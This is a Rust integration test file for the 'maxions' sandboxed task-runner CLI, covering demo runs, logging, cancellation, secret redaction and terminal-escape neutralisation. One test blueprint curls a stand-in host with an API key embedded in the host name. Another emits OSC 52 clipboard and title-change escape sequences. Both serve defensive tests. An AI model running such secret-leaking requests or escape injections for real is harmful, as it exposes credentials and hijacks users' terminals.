//! `maxions demo` and `maxions run` as a user types them: the real binary, a real engine.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::cli::Maxions;
use crate::support::docker::engine;
use crate::support::{tree, write};

fn git(dir: &std::path::Path, args: &[&str]) -> String {
    let output = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[tokio::test]
async fn the_demo_runs_end_to_end_and_pushes_its_branch_to_the_local_repository() {
    if engine("cli-demo").await.is_none() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let demo = dir.path().join("demo");
    let out = Maxions::new().args(["demo", "--dir"]).arg_path(&demo).run();
    assert_eq!(out.code, 0, "{}", out.stderr);
    for expected in [
        "✗ check test failed (exit 1)",
        "fix round 1/2: checks pass",
        "pushed maxions/demo",
        "status:  succeeded",
        "pull request (not opened, no forge configured): add a greeting function",
    ] {
        assert!(
            out.stderr.contains(expected),
            "`{expected}` in:\n{}",
            out.stderr
        );
    }
    // The branch is in the local repository, with the agent's repaired file.
    let origin = demo.join("origin/demo.git");
    let greet = git(&origin, &["show", "maxions/demo:greet.sh"]);
    assert!(greet.contains("Hello, %s!"), "{greet}");
    let message = git(&origin, &["log", "-1", "--format=%s%n%an", "maxions/demo"]);
    assert_eq!(message, "feat: add a greeting function\nmaxions\n");
    // The result beside the task says the same.
    let result: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(demo.join("tasks/demo.result.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(result["status"], "succeeded");
    assert_eq!(result["fix_rounds"], 1);
    assert_eq!(result["pull_request"]["opened"], false);
    assert_eq!(result["pull_request"]["draft"], false);
    assert_eq!(
        result["commit"].as_str().unwrap(),
        git(&origin, &["rev-parse", "maxions/demo"]).trim()
    );
    let log = std::fs::read_to_string(result["log"].as_str().unwrap()).unwrap();
    let last: serde_json::Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    assert_eq!(last["type"], "run_finished");

    // Again: the stable branch is reused (force-with-lease over the first run's commit).
    let again = Maxions::new().args(["demo", "--dir"]).arg_path(&demo).run();
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert_eq!(
        git(&origin, &["rev-list", "--count", "maxions/demo"]).trim(),
        "2"
    );
}

#[tokio::test]
async fn run_json_streams_the_log_lines_and_exit_codes_say_how_it_ended() {
    if engine("cli-json").await.is_none() {
        return;
    }
    let dir = tree(&[
        (
            "blueprints/b.yaml",
            "name: b\nsteps:\n  - id: hello\n    run: echo hi\n  - id: broken\n    run: |\n      echo 'fatal: it broke' >&2\n      exit 4\n",
        ),
        (
            "tasks/t.yaml",
            "task: x\nrepo: acme/widgets\nblueprint: b\n",
        ),
    ]);
    let out = Maxions::new()
        .current_dir(dir.path())
        .args(["run", "--json", "tasks/t.yaml"])
        .run();
    assert_eq!(out.code, 1, "a failed step exits 1: {}", out.stderr);
    let lines: Vec<serde_json::Value> = out
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("every stdout line is JSON"))
        .collect();
    let seqs: Vec<u64> = lines.iter().map(|l| l["seq"].as_u64().unwrap()).collect();
    assert_eq!(seqs, (1..=seqs.len() as u64).collect::<Vec<_>>());
    let last = lines.last().unwrap();
    assert_eq!(last["type"], "run_finished");
    assert_eq!(last["status"], "failed");
    assert_eq!(
        last["reason"],
        "step `broken` failed: exited with code 4: fatal: it broke"
    );
    // The same lines are in the log.
    let runs = dir.path().join("tasks/t.runs");
    let log = std::fs::read_dir(&runs)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    assert_eq!(std::fs::read_to_string(log).unwrap(), out.stdout);

    // Invalid input: exit 2 and the diagnostic, nothing run.
    write(
        dir.path(),
        "tasks/bad.yaml",
        "task: x\nrepo: acme/widgets\nblueprint: nope\n",
    );
    let bad = Maxions::new()
        .current_dir(dir.path())
        .args(["run", "tasks/bad.yaml"])
        .run();
    assert_eq!(bad.code, 2, "{}", bad.stderr);
    assert!(bad.stderr.contains("nothing was run"), "{}", bad.stderr);
    assert!(!dir.path().join("tasks/bad.runs").exists());
}

#[tokio::test]
async fn ctrl_c_cancels_the_run_removes_the_sandbox_and_exits_130() {
    a_signal_cancels_the_run("-INT", "cli-cancel").await;
}

#[tokio::test]
async fn sigterm_cancels_the_run_removes_the_sandbox_and_exits_130() {
    a_signal_cancels_the_run("-TERM", "cli-term").await;
}

async fn a_signal_cancels_the_run(signal: &str, name: &str) {
    let Some(engine) = engine(name).await else {
        return;
    };
    let dir = tree(&[
        (
            "blueprints/b.yaml",
            "name: b\nsteps:\n  - id: long\n    run: sleep 60\n",
        ),
        (
            "tasks/t.yaml",
            "task: x\nrepo: acme/widgets\nblueprint: b\n",
        ),
    ]);
    let child = Command::new(env!("CARGO_BIN_EXE_maxions"))
        .current_dir(dir.path())
        .args(["run", "--json", "tasks/t.yaml"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until the step runs, then interrupt as a terminal's Ctrl-C would.
    let runs = dir.path().join("tasks/t.runs");
    let started = Instant::now();
    loop {
        let log = std::fs::read_dir(&runs)
            .ok()
            .and_then(|mut d| d.next())
            .and_then(|e| std::fs::read_to_string(e.ok()?.path()).ok())
            .unwrap_or_default();
        if log.contains("\"step_started\"") {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "the step never started"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(300));
    let pid = child.id().to_string();
    assert!(
        Command::new("kill")
            .args([signal, &pid])
            .status()
            .unwrap()
            .success()
    );
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(130));
    let stdout = String::from_utf8_lossy(&output.stdout);
    let last: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
    assert_eq!(last["status"], "cancelled");
    let run = last["run"].as_str().unwrap().to_owned();
    let filters = std::collections::HashMap::from([("label", vec![format!("maxions.run={run}")])]);
    let left = engine
        .client()
        .list_containers(Some(
            bollard::query_parameters::ListContainersOptionsBuilder::new()
                .all(true)
                .filters(&filters)
                .build(),
        ))
        .await
        .unwrap();
    assert!(left.is_empty(), "the sandbox was removed: {left:?}");
}

#[tokio::test]
async fn logs_at_trace_show_no_secret_from_maxions_or_the_crates_it_uses() {
    if engine("cli-logs").await.is_none() {
        return;
    }
    // Lowercase letters and digits: it also becomes a host name, which the proxy lowercases.
    const SECRET: &str = "logsecret7q9z4k2m";
    let dir = tree(&[
        (
            "maxions.yaml",
            "secrets:\n  API_KEY: { env: CLI_LOG_SECRET }\n  GIT_TOKEN: { env: CLI_LOG_GIT_TOKEN }\n",
        ),
        (
            "blueprints/b.yaml",
            // The exec's environment holds the secret (bollard logs request bodies at trace), and
            // the refused host name carries it into maxions' own log of the egress decision.
            "name: b\nsandbox:\n  network: allowlist\n  allow: [allowed.invalid]\nsteps:\n  - id: leak\n    secrets: [API_KEY]\n    run: |\n      echo \"key=$API_KEY\"\n      curl -s -m 10 \"https://$API_KEY.denied.invalid/\" || true\n",
        ),
        (
            "tasks/t.yaml",
            "task: x\nrepo: acme/widgets\nblueprint: b\n",
        ),
    ]);
    for log in ["trace", "trace,bollard=trace,hyper=trace,[exec]=trace"] {
        let out = Maxions::new()
            .current_dir(dir.path())
            .env("CLI_LOG_SECRET", SECRET)
            .env("CLI_LOG_GIT_TOKEN", "unused-git-token-cli-logs")
            .env("MAXIONS_LOG", log)
            .args(["run", "-vvv", "tasks/t.yaml"])
            .run();
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert!(
            !out.stderr.contains(SECRET) && !out.stdout.contains(SECRET),
            "MAXIONS_LOG={log}: the secret is in the output:\n{}",
            out.stderr
        );
        // maxions' own log did carry it, masked: the redacting writer was in the way.
        assert!(
            out.stderr
                .lines()
                .any(|l| l.contains("maxions::") && l.contains("***.denied.invalid")),
            "MAXIONS_LOG={log}: no masked egress event in:\n{}",
            out.stderr
        );
        if log != "trace" {
            assert!(
                out.stderr.contains("only maxions' own logs can be raised"),
                "{}",
                out.stderr
            );
        }
    }
}

#[tokio::test]
async fn escape_sequences_from_a_run_are_shown_not_obeyed_by_the_terminal() {
    if engine("cli-escapes").await.is_none() {
        return;
    }
    let dir = tree(&[
        (
            "blueprints/b.yaml",
            // An OSC 52 clipboard write and a `\r` overwrite in output; a title change in the
            // failure's reason.
            "name: b\nsteps:\n  - id: out\n    run: printf 'a\\033]52;c;cHduZWQ=\\007b\\rX\\n'\n  - id: bad\n    run: |\n      printf '\\033]0;owned\\007 fatal\\n' >&2\n      exit 3\n",
        ),
        (
            "tasks/t.yaml",
            "task: x\nrepo: acme/widgets\nblueprint: b\n",
        ),
    ]);
    let out = Maxions::new()
        .current_dir(dir.path())
        // As on a colour terminal: nothing is stripped on the way out.
        .args(["run", "-v", "--color", "always", "tasks/t.yaml"])
        .run();
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        !out.stderr.contains("\x1b]") && !out.stderr.contains('\x07') && !out.stderr.contains('\r'),
        "a raw control character reached the terminal: {:?}",
        out.stderr
    );
    assert!(
        out.stderr.contains("| a^[]52;c;cHduZWQ=^Gb^MX"),
        "{}",
        out.stderr
    );
    let reason = out
        .stderr
        .lines()
        .find(|l| l.starts_with("reason:"))
        .unwrap_or_default();
    assert!(reason.contains("^[]0;owned^G fatal"), "{}", out.stderr);
}

#[test]
fn with_an_engine_that_does_not_answer_at_docker_host_the_demo_says_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let out = Maxions::new()
        .env("DOCKER_HOST", "tcp://127.0.0.1:1")
        .args(["demo", "--dir"])
        .arg_path(dir.path().join("demo"))
        .run();
    assert_eq!(out.code, 2, "{}", out.stderr);
    // Nothing is installed or started for an engine someone else runs.
    assert!(
        out.stderr.contains(
            "DOCKER_HOST=tcp://127.0.0.1:1 is set, so maxions does not start a local engine"
        ),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("starting one"), "{}", out.stderr);
}

#[tokio::test]
async fn images_maxions_does_not_build_are_left_to_the_engine_and_present_ones_are_kept() {
    let Some(engine) = engine("cli-images").await else {
        return;
    };
    let said = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let log = said.clone();
    let progress = maxions::sandbox::bootstrap::Progress::new(move |line| {
        log.lock().unwrap().push(line.to_owned());
    });
    let started = Instant::now();
    maxions::sandbox::bootstrap::ensure_images(
        &engine,
        &[
            maxions::sandbox::image::SANDBOX_IMAGE,
            "maxions-test/not-built-by-maxions:none",
        ],
        &progress,
    )
    .await
    .unwrap();
    // Present: nothing built, nothing said; unknown: no attempt (the run's own error says it).
    assert!(
        said.lock().unwrap().is_empty(),
        "{:?}",
        said.lock().unwrap()
    );
    assert!(started.elapsed() < Duration::from_secs(10));
}
